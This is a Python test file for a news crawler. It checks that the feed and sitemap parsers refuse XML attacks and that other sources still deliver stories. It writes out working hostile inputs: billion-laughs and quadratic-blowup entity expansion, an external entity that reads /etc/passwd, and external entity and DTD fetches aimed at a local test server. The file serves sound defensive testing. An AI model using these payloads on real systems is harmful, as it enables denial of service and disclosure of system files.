"""XML attacks in feeds and sitemaps: entity expansion, external entities and DTD fetches are
refused without resolving or fetching anything; the run records the source as failed, and the
site's other sources still deliver its stories."""

from __future__ import annotations

from pathlib import Path

import pytest

from crawler.discovery import parsers as discovery
from replica.server import ReplicaServer
from tests.helpers import StaticSite, database_bytes, run_newsmon, runs, stored, write_config

SITEMAP_NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
_LOL = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
    for i in range(1, 10)
)


def billion_laughs() -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [{_LOL}]>'
        '<rss version="2.0"><channel><title>&lol9;</title></channel></rss>'
    )


def quadratic_blowup() -> str:
    big = "A" * 50_000
    return (
        f'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "{big}">]>'
        f"<urlset {SITEMAP_NS}><url><loc>http://x/{'&a;' * 1000}</loc></url></urlset>"
    )


def file_entity() -> str:
    return (
        '<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f"<urlset {SITEMAP_NS}><url><loc>http://x/&xxe;</loc></url></urlset>"
    )


def url_entity(evil: str) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "{evil}/entity">'
        f'<!ENTITY % dtd SYSTEM "{evil}/param.dtd"> %dtd;]>'
        f"<urlset {SITEMAP_NS}><url><loc>&xxe;</loc></url></urlset>"
    )


def external_dtd(evil: str) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{evil}/external.dtd">'
        '<rss version="2.0"><channel><item><link>http://x/&xxe;</link></item></channel></rss>'
    )


def test_every_payload_is_refused_with_a_reason_and_nothing_fetched() -> None:
    with StaticSite() as evil:
        payloads = [
            billion_laughs(),
            quadratic_blowup(),
            file_entity(),
            url_entity(evil.origin),
            external_dtd(evil.origin),
        ]
        for payload in payloads:
            for parse in (discovery.parse_feed, discovery.parse_sitemap):
                with pytest.raises(discovery.SourceError, match="refused|not well-formed"):
                    parse(payload.encode(), "http://x/")
        assert evil.requests == [], "an entity or DTD was fetched"


def test_an_external_dtd_without_entities_is_not_fetched_and_the_feed_still_reads() -> None:
    with StaticSite() as evil:
        feed = (
            f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{evil.origin}/rss-0.91.dtd">'
            '<rss version="0.91"><channel><item><link>http://x/a</link></item></channel></rss>'
        )
        found = discovery.parse_feed(feed.encode(), "http://x/")
        assert [link.url for link in found.links] == ["http://x/a"]
        assert evil.requests == []


def test_stray_control_characters_do_not_cost_the_document() -> None:
    feed = b"<rss><channel><item><title>a\x00b\x0bc\x1a</title><link>http://x/a</link></item>"
    found = discovery.parse_feed(feed + b"</channel></rss>", "http://x/")
    assert [(link.url, link.hints["title"]) for link in found.links] == [("http://x/a", "abc")]


def test_hostile_sources_fail_alone_and_leak_nothing(
    tmp_path: Path, caliber_server: ReplicaServer, eqmint_server: ReplicaServer
) -> None:
    with StaticSite() as evil:
        eqmint_server.set_fault("/feed/", "body", body=billion_laughs(), content_type="text/xml")
        eqmint_server.set_fault("/sitemap_index.xml", "body", body=file_entity())
        eqmint_server.set_fault("/wp-sitemap.xml", "body", body=url_entity(evil.origin))
        caliber_server.set_fault("/rss.xml", "body", body=external_dtd(evil.origin))
        config = write_config(
            tmp_path,
            [
                {"name": "caliber", "spider": "caliber", "url": caliber_server.base_url},
                {"name": "eqmint", "spider": "eqmint", "url": eqmint_server.base_url},
            ],
        )
        result = run_newsmon(config, "--log-level", "INFO", "crawl")
        assert evil.requests == [], "an external entity or DTD was fetched"
    assert result.returncode == 0, result.stdout + result.stderr  # partial is not a failure
    db = tmp_path / "newsmon.db"
    by_site = runs(db)
    status, _, _, errors, error = by_site["eqmint"]
    assert (status, errors) == ("partial", 3)
    assert error is not None
    for path in ("/feed/", "/sitemap_index.xml", "/wp-sitemap.xml"):
        assert f"{path}: " in error
    assert error.count("entity declarations refused") == 3
    assert by_site["caliber"][0] == "partial"
    assert "external DTD" in (by_site["caliber"][4] or "")
    # One clear warning per refused document.
    refused = [line for line in result.stderr.splitlines() if "discovery source failed" in line]
    assert len(refused) == 4 and all("refused" in line for line in refused)
    # Listings, search and the REST API still found every story of both sites.
    assert len(stored(db, "eqmint")) == 11
    assert len(stored(db, "caliber")) == 10  # the English edition; RSS-only stories wait
    everything = database_bytes(db)
    assert b"root:x:0:0" not in everything and b"lollollol" not in everything
